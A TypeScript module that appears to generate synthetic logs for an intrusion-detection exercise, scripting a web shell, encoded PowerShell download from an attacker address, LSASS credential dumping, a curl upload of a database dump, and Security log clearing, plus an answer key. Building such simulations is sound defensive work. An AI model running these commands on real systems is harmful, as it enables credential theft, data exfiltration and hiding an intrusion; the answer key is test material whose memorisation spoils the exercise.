import { LINUX_HOST, securityLine, syslogLine, sysmonLine, tspLine, WINDOWS_HOST } from '../records.ts';
import type { TspRecord, WindowsFields } from '../records.ts';
import { asStep, spread } from '../story.ts';
import type { Action, StoryTeller } from '../story.ts';

const ATTACKER = '198.51.100.23';
const IIS_USER = 'IIS APPPOOL\\TspPortal';
const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const TOOL = 'C:\\Users\\Public\\mk.exe';
const WEB_SHELL = 'C:\\inetpub\\wwwroot\\portal\\uploads\\avatar.aspx';
/** `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')` in UTF-16LE and Base64, as `-enc` takes it. */
const ENCODED = Buffer.from(
  `IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER}/a.ps1')`,
  'utf16le',
).toString('base64');

const sysmon = (at: number, eventId: number, fields: WindowsFields): Action => ({
  kind: 'log',
  at,
  source: 'tsp-windows',
  line: (now) => sysmonLine(now, eventId, fields),
});

const processStart = (
  at: number,
  image: string,
  commandLine: string,
  parent: string,
  parentLine: string,
  user: string,
): Action =>
  sysmon(at, 1, {
    Image: image,
    OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
    CommandLine: commandLine,
    CurrentDirectory: 'C:\\Windows\\System32\\inetsrv\\',
    ParentImage: parent,
    ParentCommandLine: parentLine,
    User: user,
    IntegrityLevel: 'High',
  });

const linux = (at: number, priority: number, program: string, pid: number, message: string): Action => ({
  kind: 'log',
  at,
  source: 'tsp-linux',
  line: (now) => syslogLine(now, priority, program, pid, message),
});

const tsp = (at: number, record: TspRecord): Action => ({
  kind: 'log',
  at,
  source: 'tsp',
  line: (now) => tspLine(now, record),
});

const webShell = (): Action[] => [
  tsp(0.1, {
    type: 'api',
    account: '-',
    src_ip: ATTACKER,
    result: 'success',
    method: 'POST',
    path: '/portal/uploads/avatar.aspx',
    status: 200,
    user_agent: 'curl/8.4.0',
  }),
  sysmon(0.11, 11, { Image: W3WP, TargetFilename: WEB_SHELL, User: IIS_USER }),
  ...['whoami /priv', 'net user /domain', 'ipconfig /all', 'systeminfo'].map((command, index) =>
    processStart(0.15 + index * 0.02, CMD, `cmd.exe /c "${command}"`, W3WP, 'w3wp.exe -ap "TspPortal"', IIS_USER),
  ),
  processStart(
    0.27,
    POWERSHELL,
    `powershell.exe -nop -w hidden -enc ${ENCODED}`,
    CMD,
    'cmd.exe /c powershell',
    IIS_USER,
  ),
  sysmon(0.28, 3, {
    Image: POWERSHELL,
    User: IIS_USER,
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: '10.20.0.12',
    SourcePort: '50211',
    DestinationIp: ATTACKER,
    DestinationPort: '80',
  }),
  sysmon(0.29, 11, { Image: POWERSHELL, TargetFilename: TOOL, User: IIS_USER }),
];

const credentials = (): Action[] => [
  processStart(
    0.36,
    TOOL,
    `${TOOL} privilege::debug sekurlsa::logonpasswords exit`,
    POWERSHELL,
    'powershell.exe',
    'NT AUTHORITY\\SYSTEM',
  ),
  sysmon(0.37, 10, {
    SourceImage: TOOL,
    TargetImage: 'C:\\Windows\\System32\\lsass.exe',
    GrantedAccess: '0x1438',
    CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00000000D2A1C2F0)',
    SourceUser: 'NT AUTHORITY\\SYSTEM',
  }),
  processStart(
    0.4,
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 644 C:\\Users\\Public\\l.dmp full',
    CMD,
    'cmd.exe',
    'NT AUTHORITY\\SYSTEM',
  ),
  {
    kind: 'log',
    at: 0.42,
    source: 'tsp-windows',
    line: (now) =>
      securityLine(now, 4624, {
        LogonType: 3,
        TargetUserName: 'svc_dbbackup',
        IpAddress: '10.20.0.12',
        LogonProcessName: 'NtLmSsp',
      }),
  },
];

const dataExport = (): Action[] => [
  ...spread(0.5, 0.54, 6).map((at, index) =>
    linux(at, 86, 'sshd', 4100 + index, `Failed password for root from 10.20.0.12 port ${51_000 + index} ssh2`),
  ),
  linux(0.55, 86, 'sshd', 4110, 'Accepted password for svc_dbbackup from 10.20.0.12 port 51020 ssh2'),
  linux(
    0.57,
    85,
    'sudo',
    4120,
    'svc_dbbackup : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/mysqldump --all-databases tsp_owner tsp_trip',
  ),
  linux(
    0.62,
    85,
    'sudo',
    4133,
    'svc_dbbackup : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.x.tgz /tmp/tsp_owner.sql',
  ),
  linux(
    0.66,
    85,
    'sudo',
    4140,
    `svc_dbbackup : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -T /tmp/.x.tgz http://${ATTACKER}/u`,
  ),
  ...spread(0.7, 0.9, 25).map((at, index) =>
    tsp(at, {
      type: 'api',
      account: 'svc_dbbackup',
      src_ip: '10.20.0.12',
      result: 'success',
      method: 'GET',
      path: `/api/v1/export/owners?page=${index + 1}&size=5000`,
      status: 200,
      bytes: 7_340_032,
      user_agent: 'curl/8.4.0',
    }),
  ),
  processStart(
    0.92,
    'C:\\Windows\\System32\\wevtutil.exe',
    'wevtutil cl Security',
    CMD,
    'cmd.exe',
    'NT AUTHORITY\\SYSTEM',
  ),
];

/** The forwarder dies while it writes: records that end in the middle, which no reader can read. */
const cutShort = (): Action[] =>
  spread(0.93, 0.96, 6).map((at, index) => ({
    kind: 'log',
    at,
    source: 'tsp',
    line: (now) =>
      tspLine(now, {
        type: 'api',
        account: 'svc_dbbackup',
        src_ip: '10.20.0.12',
        result: 'success',
        method: 'GET',
        path: `/api/v1/export/owners?page=${index + 26}&size=5000`,
      }).slice(0, 90 + index),
  }));

/** Platform intrusion: web shell, encoded PowerShell, credentials from LSASS, then the owners' data leaves. */
export const intrusion: StoryTeller = () => ({
  name: 'intrusion',
  actions: [
    ...asStep('web-shell', webShell()),
    ...asStep('credentials', credentials()),
    ...asStep('export', dataExport()),
    ...asStep('cut-short', cutShort()),
  ],
  truth: { addresses: [ATTACKER], hosts: [WINDOWS_HOST, LINUX_HOST], accounts: ['svc_dbbackup'] },
});
